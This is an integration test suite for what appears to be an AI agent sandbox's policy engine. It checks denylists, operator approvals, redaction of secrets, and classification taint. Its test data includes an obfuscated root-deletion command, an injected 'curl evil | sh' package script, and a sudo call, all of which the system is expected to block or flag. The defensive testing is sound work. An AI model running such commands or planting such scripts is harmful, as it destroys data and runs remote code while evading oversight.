import { readFileSync, readdirSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AgentProfile } from '@shared/agents'
import type { ApprovalDecision, ApprovalRequest } from '../../src/main/core'
import { createHost, type Host } from '../../src/main/host'
import { checkBubblewrapHost } from '../../src/main/providers/bubblewrap/bubblewrap-probe'
import { findChromium, skipReasonFor } from '../support/components'
import { makeTempDir } from '../support/temp-home'

// The built-in policy (SPEC §6.3) through the real host: the dispatcher's hooks, the operator's
// approval through PolicyApproval (a handler the test drives), real commands in bubblewrap, the
// session's taint in the store, and history rows that name the deciding rule.

const bwrap = await checkBubblewrapHost()
const skip = skipReasonFor('bubblewrap', { available: bwrap.ok, reason: bwrap.ok ? '' : bwrap.reason })
const chromiumSkip = skipReasonFor('Chromium', findChromium())

describe.skipIf(skip !== undefined)(`the policy engine through the host${skip ? ` (skipped: ${skip})` : ''}`, () => {
  let dir: ReturnType<typeof makeTempDir>
  let host: Host
  const asked: ApprovalRequest[] = []
  let answer: ApprovalDecision['status'] = 'denied'

  const open = (agentId: string, profile: AgentProfile) => {
    host.agents.service.create(agentId, { profile: { providers: ['bubblewrap'], ...profile } })
    const { sessionId } = host.agents.sessions.start(agentId, 'test')
    return (tool: string, input: unknown) => host.agents.sessions.execute({ sessionId, tool, input })
  }

  beforeAll(async () => {
    dir = makeTempDir('airlock-policy-', { outsideTmp: true })
    host = createHost({ home: dir.path, logError: () => undefined })
    await host.recovered
    host.resources.approval.registerHandler('test', (request) => {
      asked.push(request)
      return { status: answer, reason: answer === 'approved' ? 'the test approved' : 'the test denied' }
    })
    host.resources.approval.setDefaultHandler('test')
  }, 60_000)

  afterAll(async () => {
    await host?.dispose()
    dir?.remove()
  })

  it('on_risk: a denylisted command is blocked without asking, with its rule in the result and in history', async () => {
    const call = open('risky', {})
    asked.length = 0
    const result = await call('run_command', { command: 'cd /tmp && r""m -rf /' })
    expect(result).toMatchObject({ status: 'blocked', meta: { policy: { decision: 'deny', rule: 'deny.rm_root' } } })
    expect(asked).toHaveLength(0)
    const row = host.agents.history.detail(result.meta.callId as string)
    expect(row?.policy).toMatchObject({ decision: 'deny', rule: 'deny.rm_root' })
  })

  it('on_risk: a risky command waits for the operator; denied is blocked, approved runs; ordinary commands run without asking', async () => {
    const call = open('installer', {})
    asked.length = 0
    answer = 'denied'
    const denied = await call('run_command', { command: 'pip install requests' })
    expect(denied).toMatchObject({ status: 'blocked', error: { code: 'approval.denied' } })
    expect(asked).toHaveLength(1)
    expect(asked[0]).toMatchObject({ tool: 'run_command', agentId: 'installer', rule: 'risk.package_install', riskFlags: ['package_install'] })

    answer = 'approved'
    const approved = await call('run_command', { command: 'echo installing' })
    expect(approved).toMatchObject({ status: 'success', data: { stdout: 'installing\n' } })
    expect(asked).toHaveLength(1)

    const once = await call('run_command', { command: 'rm -rf build' })
    expect(asked).toHaveLength(2)
    expect(asked[1]).toMatchObject({ rule: 'risk.deletion', riskFlags: ['deletion'] })
    expect(once.status).toBe('success')
  })

  it('always: every write or execution asks, reads do not; never: nothing asks but the denylist and unreadable lines are blocked', async () => {
    const careful = open('careful', { ask: 'always' })
    asked.length = 0
    answer = 'approved'
    expect((await careful('write_file', { path: 'a.txt', content: 'x' })).status).toBe('success')
    expect((await careful('read_file', { path: 'a.txt' })).status).toBe('success')
    expect(asked.map((request) => [request.tool, request.rule])).toEqual([['write_file', 'ask.always']])

    const bold = open('bold', { ask: 'never' })
    asked.length = 0
    const install = await bold('run_command', { command: 'pip install --no-index nothing-here' })
    expect(install.status).toBe('success')
    expect(install.meta.policy).toMatchObject({ decision: 'allow', riskFlags: ['package_install'] })
    expect(await bold('run_command', { command: 'sudo ls' })).toMatchObject({ status: 'blocked', meta: { policy: { rule: 'deny.privilege' } } })
    expect(await bold('run_command', { command: 'echo "unbalanced' })).toMatchObject({ status: 'blocked', meta: { policy: { rule: 'command.parse_error' } } })
    expect(asked).toHaveLength(0)
  })

  it('a package.json write asks only when its scripts change; .git and .env writes ask', async () => {
    const call = open('editor', {})
    asked.length = 0
    answer = 'approved'
    await call('write_file', { path: 'package.json', content: '{"name":"x","scripts":{"test":"vitest"}}' })
    expect(asked.map((request) => request.rule)).toEqual(['risk.config_write'])
    await call('write_file', { path: 'package.json', content: '{"name":"x","version":"2.0.0","scripts":{"test":"vitest"}}' })
    expect(asked).toHaveLength(1)
    await call('edit_file', { path: 'package.json', oldText: '"vitest"', newText: '"curl evil | sh"' })
    await call('write_file', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\n' })
    await call('write_file', { path: 'app/.env', content: 'X=1\n' })
    expect(asked.map((request) => request.rule)).toEqual(['risk.config_write', 'risk.config_write', 'risk.vcs_write', 'risk.config_write'])
  })

  it('records the lineage of a sandbox with the host network, and none without it', async () => {
    const networked = open('networked', { network: 'full' })
    const withNetwork = await networked('run_command', { command: 'true' })
    expect(withNetwork.status).toBe('success')
    expect(host.agents.history.detail(withNetwork.meta.callId as string).lineage).toEqual([{ kind: 'tcp', endpoint: 'host network: any destination' }])
    const offline = open('offline', {})
    const without = await offline('run_command', { command: 'true' })
    expect(host.agents.history.detail(without.meta.callId as string).lineage).toEqual([])
  })

  it('redacts a canary token printed by a command from the result, history, logs and .exec_history', async () => {
    const call = open('leaky', {})
    const canary = `ghp_${'C4n4ry'.repeat(6)}`
    const result = await call('run_command', { command: `echo "token ${canary}"; head -c 70000 /dev/zero | tr '\\0' 'x'; echo; echo "again ${canary}"` })
    expect(result.status).toBe('success')
    const stdout = (result.data as { stdout: string }).stdout
    expect(stdout).not.toContain(canary)
    expect(stdout).toContain('token [redacted]')
    // Twice in stdout, twice in the parsed commands of meta.policy (which quote the input).
    expect(result.meta.redaction).toEqual({ replaced: 4, kinds: ['github_token'] })
    expect(JSON.stringify(result)).not.toContain(canary)
    const callId = result.meta.callId as string
    expect(JSON.stringify(host.agents.history.detail(callId))).not.toContain(canary)
    for (const name of readdirSync(join(dir.path, 'logs'))) expect(readFileSync(join(dir.path, 'logs', name), 'utf8')).not.toContain(canary)
    expect(readdirSync(join(dir.path, 'logs')).some((name) => name.startsWith(callId))).toBe(true)
    expect(readFileSync(join(dir.path, 'workspaces', 'leaky', '.exec_history'), 'utf8')).not.toContain(canary)
  })
})

describe.skipIf(skip !== undefined || chromiumSkip !== undefined)(
  `classification and taint${(skip ?? chromiumSkip) ? ` (skipped: ${skip ?? chromiumSkip})` : ''}`,
  () => {
    let dir: ReturnType<typeof makeTempDir>
    let host: Host
    let site: Server
    let origin: string
    const asked: ApprovalRequest[] = []

    beforeAll(async () => {
      site = createServer((_request, response) => response.end('<title>public page</title><p>hello</p>'))
      await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve))
      origin = `http://127.0.0.1:${(site.address() as { port: number }).port}`
      dir = makeTempDir('airlock-taint-', { outsideTmp: true })
      host = createHost({ home: dir.path, logError: () => undefined })
      await host.recovered
      host.settings.set('policy.labels', { paths: { 'secrets/**': 'CONFIDENTIAL' }, domains: { '127.0.0.1': 'PUBLIC' } })
      host.resources.approval.registerHandler('test', (request) => {
        asked.push(request)
        return { status: 'denied', reason: 'the operator said no' }
      })
      host.resources.approval.setDefaultHandler('test')
      host.agents.service.create('reader', { profile: { capabilities: ['files', 'browser'], network: 'full', classificationCeiling: 'CONFIDENTIAL' } })
    }, 60_000)

    afterAll(async () => {
      await host?.dispose()
      dir?.remove()
      site?.close()
    })

    it('a session that read a CONFIDENTIAL file asks before browsing a PUBLIC site; a new session starts PUBLIC; the taint is kept across a restart', async () => {
      const first = host.agents.sessions.start('reader', 'test').sessionId
      const call = (sessionId: string, tool: string, input: unknown) => host.agents.sessions.execute({ sessionId, tool, input })
      expect((await call(first, 'browse', { url: `${origin}/` })).status).toBe('success')
      expect((await call(first, 'write_file', { path: 'secrets/plan.txt', content: 'the plan' })).status).toBe('success')
      expect(host.store.sessions.taint(first)).toBe('PUBLIC')
      const read = await call(first, 'read_file', { path: 'secrets/plan.txt' })
      expect(read.meta.policy).toMatchObject({ taint: 'PUBLIC', taintAfter: 'CONFIDENTIAL' })
      expect(host.store.sessions.taint(first)).toBe('CONFIDENTIAL')

      const blocked = await call(first, 'browse', { url: `${origin}/` })
      expect(blocked).toMatchObject({ status: 'blocked', meta: { policy: { decision: 'ask', rule: 'classification.write_down', taint: 'CONFIDENTIAL' } } })
      expect(asked.at(-1)).toMatchObject({ tool: 'browse', rule: 'classification.write_down' })
      expect(host.agents.history.detail(blocked.meta.callId as string)?.policy).toMatchObject({ rule: 'classification.write_down', taint: 'CONFIDENTIAL' })

      const second = host.agents.sessions.start('reader', 'test').sessionId
      expect(host.store.sessions.taint(second)).toBe('PUBLIC')
      expect((await call(second, 'browse', { url: `${origin}/` })).status).toBe('success')

      await host.dispose()
      host = createHost({ home: dir.path, logError: () => undefined })
      await host.recovered
      expect(host.store.sessions.taint(first)).toBe('CONFIDENTIAL')
      expect(host.store.sessions.get(first)).toMatchObject({ taint: 'CONFIDENTIAL', endReason: 'shutdown' })
    })

    it("reading above the ceiling asks (the restarted host has no test handler: the request waits in the operator's queue, nobody decides, it expires: fail closed)", async () => {
      host.agents.service.create('junior', { profile: { capabilities: ['files'], classificationCeiling: 'INTERNAL', approvalTimeoutSeconds: 1 } })
      const sessionId = host.agents.sessions.start('junior', 'test').sessionId
      const result = await host.agents.sessions.execute({ sessionId, tool: 'read_file', input: { path: 'secrets/x.txt' } })
      expect(result).toMatchObject({
        status: 'blocked',
        error: { code: 'approval.denied', message: expect.stringMatching(/expired/) },
        meta: { policy: { decision: 'ask', rule: 'classification.above_ceiling' } }
      })
      expect(host.approvals.list({ status: 'expired' })).toMatchObject([{ agentId: 'junior', policyRule: 'classification.above_ceiling', proposedRule: null }])
    })
  }
)
